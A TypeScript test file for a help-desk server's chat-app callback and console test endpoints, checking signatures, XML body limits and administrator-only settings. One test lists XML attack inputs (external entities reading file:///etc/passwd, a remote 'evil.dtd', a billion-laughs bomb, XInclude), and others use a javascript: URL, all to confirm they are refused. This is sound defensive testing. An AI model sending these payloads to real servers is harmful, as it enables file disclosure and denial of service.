/** The calls of a chat app's server to the desk, and the console's test calls to it (doc 2 §6.2, §7). */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { printFlatXml } from '../../../../relay/desk-api/flat-xml.ts';
import { CHAT_APP_SIGNING, refusalOfTokenQuery } from '../../../../relay/desk-api/signing/chat-app.ts';
import { JUNIPER, startDesk, TENANT } from '../desk-harness.ts';
import { CUSTOMER, NUMBER, startChatDesk } from './chat-desk.ts';

type Stage = Awaited<ReturnType<typeof startChatDesk>>;

async function call({ desk }: Stage, path: string, body?: string, more: Record<string, string> = {}, number = NUMBER) {
  const credentials = { email: TENANT.email, token: TENANT.relayKey };
  const signer = { credentials, version: 'v1', seconds: Math.floor(desk.clock.now() / 1000), nonce: () => '' } as const;
  const { query } = CHAT_APP_SIGNING.sign({ query: { number }, body: {} }, signer);
  const response = await fetch(`${desk.url}/spa1/${path}?${new URLSearchParams({ ...query, ...more })}`, {
    ...(body !== undefined && { method: 'POST', body, headers: { 'content-type': 'text/xml' } }),
  });
  return { status: response.status, ...((await response.json()) as { success: boolean; msg?: string }) };
}

const message = (more: object = {}) => ({
  FromUserName: CUSTOMER,
  Number: NUMBER,
  Email: TENANT.email,
  Content: 'Hello',
  CreateTime: 1_700_000_000,
  MsgType: 'text',
  MsgId: '1',
  ...more,
});

describe('the test call', () => {
  it('says whether the signature is right', async (context) => {
    const stage = await startChatDesk(context);
    assert.deepEqual(await call(stage, 'im_callback/test'), { status: 200, success: true });
    const wrong = await call(stage, 'im_callback/test', undefined, { sign: 'x' });
    assert.deepEqual(wrong, { status: 200, success: false, msg: 'the sign is invalid' });
    const unknown = await call(stage, 'im_callback/test', undefined, {}, 'gh_other');
    assert.deepEqual([unknown.success, unknown.msg], [false, 'no chat app of this desk has this number']);
  });

  it('is refused by a desk without a relay key', async (context) => {
    const desk = await startDesk(context, { tenant: { relayKey: undefined } });
    const response = await fetch(`${desk.url}/spa1/im_callback/test?number=x`);
    assert.deepEqual(await response.json(), { success: false, msg: 'this desk has no chat-app token yet' });
  });
});

describe('the send call', () => {
  it('takes XML alone, within its limits', async (context) => {
    const stage = await startChatDesk(context);
    const good = printFlatXml(message());
    assert.equal((await call(stage, 'im_callback', good)).success, true);
    for (const bad of [
      '',
      '{}',
      JSON.stringify(message()),
      `<!DOCTYPE xml [<!ENTITY x "y">]>${good}`,
      good.replace('<MsgType>', '<MsgType a="b">'),
      printFlatXml(message({ FromUserName: '' })),
      printFlatXml(message({ Content: 'x'.repeat(4001) })),
      printFlatXml(message({ MsgType: 'video' })),
      printFlatXml(message({ MsgId: 'a b' })),
      printFlatXml(message({ CreateTime: 'now' })),
      printFlatXml(message({ Content: 'x'.repeat(70_000) })),
    ]) {
      const refused = await call(stage, 'im_callback', bad);
      assert.deepEqual([refused.status, refused.success], [200, false], bad.slice(0, 80));
      assert.ok(refused.msg, bad.slice(0, 80));
    }
  });

  it('refuses XML with types, entities, inclusions and nesting, and expands none of it', async (context) => {
    const stage = await startChatDesk(context);
    const good = printFlatXml(message({ Content: 'secret' })).replace('<![CDATA[secret]]>', '&x;');
    const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY x${n} "${`&x${n + 1};`.repeat(10)}">`).join('');
    for (const attack of [
      `<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>${good}`,
      `<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY % p SYSTEM "${stage.receiver.url}/evil.dtd">%p;]>${good}`,
      `<!DOCTYPE xml SYSTEM "${stage.receiver.url}/evil.dtd">${good}`,
      `<!DOCTYPE xml [${laughs}<!ENTITY x9 "ha"><!ENTITY x "&x0;">]>${good}`,
      good.replace('&x;', '<xi:include href="file:///etc/passwd" parse="text"/>'),
      good.replace('&x;', '<b>secret</b>'),
      `${'<xml>'.repeat(5000)}${'</xml>'.repeat(5000)}`,
      good,
    ]) {
      const { status, success, msg } = await call(stage, 'im_callback', attack);
      assert.deepEqual([status, success], [200, false], attack.slice(0, 80));
      assert.equal(msg, 'the body is not XML whose only elements are texts in one root, or too large');
    }
    assert.equal(stage.receiver.calls.length, 0, 'nothing is fetched, and nobody is answered');
  });

  it('must be about the signed number and e-mail, and media must have an address', async (context) => {
    const stage = await startChatDesk(context);
    const refused = async (more: object) => (await call(stage, 'im_callback', printFlatXml(message(more)))).msg;
    assert.match((await refused({ Number: 'gh_other' })) ?? '', /signed number/);
    assert.match((await refused({ Email: 'x@example.com' })) ?? '', /signed e-mail/);
    assert.match((await refused({ MsgType: 'image', Content: 'javascript:alert(1)' })) ?? '', /address/);
    const unsigned = await call(stage, 'im_callback', printFlatXml(message()), { sign: '' });
    assert.equal(unsigned.msg, 'the sign is invalid');
    assert.equal(stage.pushes().length, 0);
  });
});

describe('the console’s test calls', () => {
  it('push a reply once, and ask for a token, signed', async (context) => {
    const { receiver, desk, pushes, administrator: admin } = await startChatDesk(context);
    const reply = { url: receiver.url, touser: CUSTOMER, text: 'Hello' };
    const answer = await admin.call<{ delivered: boolean }>('POST', '/test-calls/chat-app-reply', reply);
    assert.equal(answer.delivered, true);
    assert.deepEqual(pushes()[0]?.msg, { touser: CUSTOMER, msgtype: 'text', text: { content: 'Hello' } });
    receiver.answer = (response) => void response.writeHead(500).end();
    const failed = await admin.call('POST', '/test-calls/chat-app-reply', reply);
    assert.deepEqual(
      { ...(failed as object), milliseconds: 0 },
      { delivered: false, answer: 'HTTP 500', milliseconds: 0 },
    );
    const ask = (url = `${receiver.url}/`) => admin.call('POST', '/test-calls/chat-app-token', { url });
    receiver.says({ error_code: 0, error_msg: '', data: { token: 'a-token' } });
    assert.deepEqual(await ask(), { token: 'a-token' });
    const asked = receiver.calls.at(-1);
    assert.deepEqual([asked?.method, asked?.path], ['GET', '/hook/getAccessToken']);
    const seconds = Math.floor(desk.clock.now() / 1000);
    assert.equal(refusalOfTokenQuery(asked?.query ?? {}, TENANT.relayKey, seconds), undefined);
    receiver.says({ error_code: 2, error_msg: 'the app is asleep' });
    await assert.rejects(ask(), /^Error: 502 .*no token: the app is asleep/);
    receiver.says({ error_code: 0 });
    await assert.rejects(ask(), /^Error: 502 .*data.token/);
    await assert.rejects(ask('file:///etc/passwd'), /^Error: 400 the address must begin/);
    await assert.rejects(
      admin.call('POST', '/test-calls/chat-app-reply', { ...reply, url: 'file:///etc/passwd' }),
      /^Error: 400 the address must begin/,
    );
  });
});

describe('chat apps', () => {
  it('are changed by the administrator alone, and each has a number of its own', async (context) => {
    const { administrator, app, desk } = await startChatDesk(context);
    const juniper = await desk.agent(JUNIPER);
    await assert.rejects(juniper.call('POST', '/chat-apps', { ...app, number: 'gh_2' }), /^Error: 403/);
    await assert.rejects(administrator.call('POST', '/chat-apps', app), /^Error: 409 .*this number/);
    await assert.rejects(administrator.call('PUT', '/chat-apps/9', app), /^Error: 404/);
    await assert.rejects(administrator.call('PUT', '/chat-apps/1', { ...app, url: 'ftp://x' }), /^Error: 400 url/);
    const changed = await administrator.call('PUT', '/chat-apps/1', { ...app, name: 'Pocket 2' });
    assert.deepEqual(changed, { ...app, id: 1, name: 'Pocket 2' });
    assert.deepEqual(await administrator.call('GET', '/chat-apps'), { chat_apps: [changed] });
    const seen = { id: 1, number: app.number, name: 'Pocket 2' };
    assert.deepEqual(await juniper.call('GET', '/chat-apps'), { chat_apps: [seen] }, 'the address is a secret');
  });
});
